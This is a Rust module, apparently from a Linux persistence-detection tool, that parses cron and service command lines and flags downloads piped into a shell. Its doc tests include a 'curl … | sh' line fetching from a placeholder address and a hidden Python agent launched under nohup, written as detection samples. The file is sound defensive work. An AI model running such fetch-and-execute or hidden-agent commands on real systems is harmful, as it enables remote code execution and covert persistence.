//! POSIX shell command lines (what cron hands to `/bin/sh -c`, a unit's `ExecStart`) taken
//! apart: words by the shell's quoting rules, `$VAR`/`${VAR}`/`~` expanded from the job's
//! environment, pipelines and lists split, wrappers (`env`, `nohup`, `nice`, `timeout`,
//! `sudo`…) looked through, `sh -c`/`bash -c` followed, interpreters' scripts and fetched
//! addresses named, and a download piped into a shell flagged.
use foothold_core::{urls_in, CommandFlag, Invocation, TargetKind};

/// How deep `sh -c` is followed.
const MAX_DEPTH: usize = 4;

/// One token of a shell line: a word (with whether any part of it was quoted) or an operator.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    /// `|`, `||`, `&&`, `;`, `&`, newline.
    Op(String),
}

/// Split a shell line into words and operators; `$NAME`, `${NAME}` and a leading `~` are
/// expanded with `env` outside single quotes. Returns whether a quote was left open.
fn tokens(
    line: &str,
    env: &dyn Fn(&str) -> Option<String>,
    unknown: &mut Vec<String>,
) -> (Vec<Token>, bool) {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let chars: Vec<char> = line.chars().collect();
    let mut i = 0;
    let expand = |name: &str, cur: &mut String, unknown: &mut Vec<String>| match env(name) {
        Some(v) => cur.push_str(&v),
        None => {
            cur.push('$');
            cur.push_str(name);
            if !unknown.iter().any(|u| u == name) {
                unknown.push(name.to_string());
            }
        }
    };
    // `$NAME` or `${NAME}` at chars[i] == '$': returns chars consumed after '$'.
    let var = |i: usize| -> Option<(String, usize)> {
        let after = chars.get(i.saturating_add(1)..).unwrap_or_default();
        if let Some(braced) = after.strip_prefix(&['{']) {
            let end = braced.iter().position(|c| *c == '}')?;
            let name: String = braced.get(..end)?.iter().collect();
            let simple = name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            // `{`, the name, `}`.
            return simple.then_some((name, end.saturating_add(3)));
        }
        let n = after
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
            .count();
        (n > 0 && !after.first()?.is_ascii_digit()).then(|| {
            (
                after.get(..n).unwrap_or_default().iter().collect(),
                n.saturating_add(1),
            )
        })
    };
    // `$…` at chars[i]: the variable's value (or `$` itself), and the chars consumed.
    let dollar = |i: usize, cur: &mut String, unknown: &mut Vec<String>| -> usize {
        match var(i) {
            Some((name, n)) => {
                expand(&name, cur, unknown);
                n
            }
            None => {
                cur.push('$');
                1
            }
        }
    };
    let mut open = false;
    while let Some(&c) = chars.get(i) {
        // What follows `c` (empty at the end).
        let after = chars.get(i.saturating_add(1)..).unwrap_or_default();
        match c {
            '\'' => {
                in_word = true;
                match after.iter().position(|c| *c == '\'') {
                    Some(e) => {
                        cur.extend(after.get(..e).unwrap_or_default());
                        i = i.saturating_add(e).saturating_add(2);
                    }
                    None => {
                        cur.extend(after);
                        open = true;
                        i = chars.len();
                    }
                }
                continue;
            }
            '"' => {
                in_word = true;
                i = i.saturating_add(1);
                let mut closed = false;
                while let Some(&ch) = chars.get(i) {
                    let next = chars.get(i.saturating_add(1)).copied();
                    match ch {
                        '"' => {
                            closed = true;
                            i = i.saturating_add(1);
                            break;
                        }
                        '\\' if matches!(next, Some('$' | '`' | '"' | '\\' | '\n')) => {
                            cur.extend(next);
                            i = i.saturating_add(2);
                        }
                        '$' => i = i.saturating_add(dollar(i, &mut cur, unknown)),
                        ch => {
                            cur.push(ch);
                            i = i.saturating_add(1);
                        }
                    }
                }
                open |= !closed;
                continue;
            }
            '\\' => {
                in_word = true;
                if let Some(n) = after.first() {
                    if *n != '\n' {
                        cur.push(*n);
                    }
                }
                i = i.saturating_add(2);
                continue;
            }
            // Command substitution (`` `cmd` ``, `$(cmd)`): its text is part of this word,
            // kept as written; its spaces and operators do not split the outer command.
            '`' => {
                in_word = true;
                // The next backquote not escaped by a backslash.
                let end = (i.saturating_add(1)..chars.len()).find(|&j| {
                    chars.get(j) == Some(&'`')
                        && j.checked_sub(1).and_then(|p| chars.get(p)) != Some(&'\\')
                });
                let stop = end.map_or(chars.len(), |e| e.saturating_add(1));
                cur.extend(chars.get(i..stop).unwrap_or_default());
                open |= end.is_none();
                i = stop;
                continue;
            }
            '$' if after.first() == Some(&'(') => {
                in_word = true;
                let mut depth = 0usize;
                let mut end = None;
                for (j, ch) in chars.iter().enumerate().skip(i.saturating_add(1)) {
                    match ch {
                        '(' => depth = depth.saturating_add(1),
                        ')' => {
                            depth = depth.saturating_sub(1);
                            if depth == 0 {
                                end = Some(j);
                                break;
                            }
                        }
                        _ => {}
                    }
                }
                let stop = end.map_or(chars.len(), |e| e.saturating_add(1));
                cur.extend(chars.get(i..stop).unwrap_or_default());
                open |= end.is_none();
                i = stop;
                continue;
            }
            '$' => {
                in_word = true;
                i = i.saturating_add(dollar(i, &mut cur, unknown));
                continue;
            }
            '~' if !in_word && matches!(after.first(), None | Some('/' | ' ' | '\t')) => {
                in_word = true;
                match env("HOME") {
                    Some(h) => cur.push_str(&h),
                    None => cur.push('~'),
                }
                i = i.saturating_add(1);
                continue;
            }
            '#' if !in_word => break,
            ' ' | '\t' => {
                if in_word {
                    out.push(Token::Word(std::mem::take(&mut cur)));
                    in_word = false;
                }
            }
            '|' | '&' | ';' | '\n' => {
                if in_word {
                    out.push(Token::Word(std::mem::take(&mut cur)));
                    in_word = false;
                }
                let double = (c == '|' || c == '&') && after.first() == Some(&c);
                out.push(Token::Op(if double {
                    format!("{c}{c}")
                } else {
                    c.to_string()
                }));
                i = i.saturating_add(1).saturating_add(usize::from(double));
                continue;
            }
            '<' | '>' => {
                // A redirection: the word after it is a file, not an argument.
                if in_word && !cur.chars().all(|ch| ch.is_ascii_digit()) {
                    out.push(Token::Word(std::mem::take(&mut cur)));
                }
                cur.clear();
                in_word = false;
                i = i.saturating_add(1);
                while matches!(chars.get(i), Some('>' | '&' | '<')) {
                    i = i.saturating_add(1);
                }
                while matches!(chars.get(i), Some(' ' | '\t')) {
                    i = i.saturating_add(1);
                }
                // Skip the target word.
                while chars.get(i).is_some_and(|c| !" \t|&;\n".contains(*c)) {
                    i = i.saturating_add(1);
                }
                continue;
            }
            _ => {
                in_word = true;
                cur.push(c);
            }
        }
        i = i.saturating_add(1);
    }
    if in_word {
        out.push(Token::Word(cur));
    }
    (out, open)
}

/// Split a shell line into words by the POSIX quoting rules (no expansion).
///
/// ```
/// assert_eq!(foothold_linux::split_shell_words(r#"sh -c 'echo "a b"' x\ y"#), ["sh", "-c", r#"echo "a b""#, "x y"]);
/// ```
pub fn split_shell_words(line: &str) -> Vec<String> {
    let mut unknown = Vec::new();
    let literal = |_: &str| None;
    tokens(line, &literal, &mut unknown)
        .0
        .into_iter()
        .filter_map(|t| match t {
            Token::Word(w) => Some(w),
            Token::Op(_) => None,
        })
        .collect()
}

/// The shell's reserved words that may start a command (POSIX 2.4).
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}",
];

/// Programs that run the rest of their arguments as a command.
fn wrapper_skip(words: &[String]) -> usize {
    let name = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
    // `NAME=value` words are assignments at the start of a command and after `env` (every
    // one of them, not only the first); anywhere else they are the program or an argument.
    let is_assignment = |w: &str| {
        w.split_once('=').is_some_and(|(n, _)| {
            n.chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let mut i = 0;
    let mut assigning = true;
    loop {
        let Some(w) = words.get(i) else { return i };
        if assigning && is_assignment(w) {
            i = i.saturating_add(1);
            continue;
        }
        assigning = name(w) == "env";
        match name(w).as_str() {
            "env" | "nohup" | "setsid" | "exec" | "command" | "builtin" | "time" | "stdbuf"
            | "ionice" | "chronic" | "flock" => {
                i = i.saturating_add(1);
                // Options of the wrapper (and `flock FILE`, `stdbuf -oL`).
                while words.get(i).is_some_and(|w| w.starts_with('-')) {
                    i = i.saturating_add(1);
                }
                if name(w) == "flock" {
                    i = i.saturating_add(1);
                }
            }
            "nice" => {
                i = i.saturating_add(1);
                if words.get(i).is_some_and(|w| w == "-n") {
                    i = i.saturating_add(2);
                } else if words.get(i).is_some_and(|w| w.starts_with('-')) {
                    i = i.saturating_add(1);
                }
            }
            "timeout" => {
                i = i.saturating_add(1);
                while words.get(i).is_some_and(|w| w.starts_with('-')) {
                    i = i.saturating_add(1);
                }
                i = i.saturating_add(1); // the duration
            }
            "sudo" | "doas" | "runuser" | "su" => {
                i = i.saturating_add(1);
                while let Some(o) = words.get(i).filter(|w| w.starts_with('-')) {
                    let takes_value =
                        matches!(o.as_str(), "-u" | "-g" | "-U" | "-C" | "-h" | "-p" | "-c");
                    if o == "-c" {
                        // su -c CMD: treated as a shell -c below.
                        return i.saturating_add(1);
                    }
                    i = i.saturating_add(if takes_value { 2 } else { 1 });
                }
            }
            _ => return i,
        }
    }
}

fn is_shell(p: &str) -> bool {
    matches!(
        p,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox"
    )
}

fn is_interpreter(p: &str) -> bool {
    is_shell(p)
        || p.starts_with("python")
        || p.starts_with("perl")
        || matches!(p, "ruby" | "node" | "php" | "lua" | "tclsh" | "awk")
}

/// Take apart a shell command line (`env` gives the job's variables: `HOME`, `PATH`, the
/// crontab's own assignments).
///
/// ```
/// let env = |n: &str| (n == "HOME").then(|| "/home/mallory".to_string());
/// let i = foothold_linux::parse_shell_command("curl -s http://203.0.113.9/x | sh", &env);
/// assert_eq!(i.program, "curl");
/// assert!(i.flags.contains(&foothold_core::CommandFlag::PipedToShell));
/// assert_eq!(i.targets[1].path, "http://203.0.113.9/x");
/// let j = foothold_linux::parse_shell_command("nohup python3 ~/.cache/agent.py --quiet >/dev/null 2>&1", &env);
/// assert_eq!((j.program.as_str(), j.targets[1].path.as_str()), ("python3", "/home/mallory/.cache/agent.py"));
/// ```
pub fn parse_shell_command(line: &str, env: &dyn Fn(&str) -> Option<String>) -> Invocation {
    let mut inv = Invocation {
        command_line: line.to_string(),
        ..Invocation::default()
    };
    let mut unknown = Vec::new();
    shell(&mut inv, line, env, &mut unknown, None, 0);
    if !unknown.is_empty() {
        inv.flag(CommandFlag::UnexpandedVariable);
        inv.unexpanded = unknown;
    }
    inv
}

fn shell(
    inv: &mut Invocation,
    line: &str,
    env: &dyn Fn(&str) -> Option<String>,
    unknown: &mut Vec<String>,
    via: Option<&str>,
    depth: usize,
) {
    if depth > MAX_DEPTH {
        return;
    }
    let (toks, open) = tokens(line, env, unknown);
    if open {
        inv.flag(CommandFlag::UnterminatedQuote);
    }
    // Simple commands, with the operator that follows each.
    let mut cmds: Vec<(Vec<String>, Option<String>)> = vec![(Vec::new(), None)];
    for t in toks {
        match t {
            Token::Word(w) => cmds.last_mut().map(|c| c.0.push(w)).unwrap_or(()),
            Token::Op(o) => {
                if let Some(c) = cmds.last_mut() {
                    c.1 = Some(o);
                }
                cmds.push((Vec::new(), None));
            }
        }
    }
    // Reserved words (`if`, `then`, `do`, `fi`…) open or close a compound command: the
    // command is what follows them, and none of them is a program.
    for (words, _) in &mut cmds {
        let keywords = words
            .iter()
            .take_while(|w| RESERVED.contains(&w.as_str()))
            .count();
        words.drain(..keywords);
    }
    cmds.retain(|c| !c.0.is_empty());
    let base = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
    for (n, (words, op)) in cmds.iter().enumerate() {
        let skip = wrapper_skip(words);
        let Some(prog) = words.get(skip) else {
            continue;
        };
        let args = words.get(skip.saturating_add(1)..).unwrap_or_default();
        if depth == 0 && inv.program.is_empty() {
            inv.program = prog.clone();
            inv.args = args.to_vec();
        }
        inv.target(
            TargetKind::Program,
            prog.clone(),
            None,
            via.map(str::to_string),
        );
        let p = base(prog);
        let v = Some(p.clone());
        if is_shell(&p) || p == "su" {
            if let Some(k) = args.iter().position(|a| {
                a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'))
            }) {
                if let Some(inner) = args.get(k.saturating_add(1)) {
                    inv.flag(CommandFlag::InlineScript);
                    let via = format!("{p} -c");
                    shell(
                        inv,
                        inner,
                        env,
                        unknown,
                        Some(&via),
                        depth.saturating_add(1),
                    );
                }
            } else if let Some(script) = args.iter().find(|a| !a.starts_with('-')) {
                inv.target(TargetKind::Script, script.clone(), None, v.clone());
            }
        } else if is_interpreter(&p) {
            if args.iter().any(|a| a == "-c" || a == "-e" || a == "-E") {
                inv.flag(CommandFlag::InlineScript);
            } else if let Some(script) = args.iter().find(|a| !a.starts_with('-')) {
                inv.target(TargetKind::Script, script.clone(), None, v.clone());
            }
        }
        for a in args {
            for u in urls_in(a) {
                inv.target(TargetKind::Url, u, None, v.clone());
            }
        }
        // `curl … | sh`, `wget -O- … | bash`.
        if op.as_deref() == Some("|") && matches!(p.as_str(), "curl" | "wget" | "fetch") {
            if let Some((next, _)) = cmds.get(n.saturating_add(1)) {
                let s = wrapper_skip(next);
                if next.get(s).is_some_and(|w| is_interpreter(&base(w))) {
                    inv.flag(CommandFlag::PipedToShell);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn none(_: &str) -> Option<String> {
        None
    }

    /// A command substitution is one word with the text around it, never a path of its
    /// own (`case iocs` once reported ``/var/spool/anacron/cron.daily` `` from RHEL's
    /// `0anacron`).
    #[test]
    fn command_substitution_stays_in_its_word() {
        assert_eq!(
            split_shell_words("day=`cat /var/spool/anacron/cron.daily`; x=$(date +%s (y)) z"),
            [
                "day=`cat /var/spool/anacron/cron.daily`",
                "x=$(date +%s (y))",
                "z"
            ]
        );
        let i = parse_shell_command(
            "if test -r /var/spool/anacron/cron.daily; then\nday=`cat /var/spool/anacron/cron.daily`\nfi\n/usr/sbin/anacron -s",
            &none,
        );
        let programs: Vec<&str> = i.targets.iter().map(|t| t.path.as_str()).collect();
        // `if`, `then`, `fi` are reserved words, not programs.
        assert_eq!(programs, ["test", "/usr/sbin/anacron"]);
        assert_eq!(i.program, "test");
    }

    #[test]
    fn nested_shells_wrappers_and_expansion() {
        let env = |n: &str| match n {
            "HOME" => Some("/root".to_string()),
            "BIN" => Some("/opt/b".to_string()),
            _ => None,
        };
        let i = parse_shell_command(
            r#"cd / && timeout 30 sudo -u www-data bash -c "$BIN/run --x ${NOPE}" ; echo done"#,
            &env,
        );
        let t: Vec<(&str, &str)> = i
            .targets
            .iter()
            .map(|t| (t.kind.as_str(), t.path.as_str()))
            .collect();
        assert_eq!(
            t,
            [
                ("program", "cd"),
                ("program", "bash"),
                ("program", "/opt/b/run"),
                ("program", "echo")
            ]
        );
        assert_eq!(i.unexpanded, ["NOPE"]);
        assert_eq!(i.targets[2].via.as_deref(), Some("bash -c"));
        // Several assignments before the program, and after `env`.
        let a = parse_shell_command("LANG=C TZ=UTC /opt/x --y", &none);
        assert_eq!(
            (a.program.as_str(), a.args.as_slice()),
            ("/opt/x", &["--y".to_string()][..])
        );
        let e = parse_shell_command("env -i A=1 B=2 /opt/y", &none);
        assert_eq!(e.program, "/opt/y");
        assert_eq!(
            parse_shell_command("nohup A=1", &none).program,
            "A=1",
            "not an assignment there"
        );
        let r = parse_shell_command("/usr/bin/php /var/www/x.php 2>/dev/null", &none);
        assert_eq!(r.targets[1].path, "/var/www/x.php");
        assert_eq!(
            r.args,
            ["/var/www/x.php"],
            "the redirection is not an argument"
        );
        let q = parse_shell_command("echo 'unterminated", &none);
        assert!(q.flags.contains(&CommandFlag::UnterminatedQuote));
        let c = parse_shell_command("# a comment", &none);
        assert!(c.targets.is_empty());
    }
}
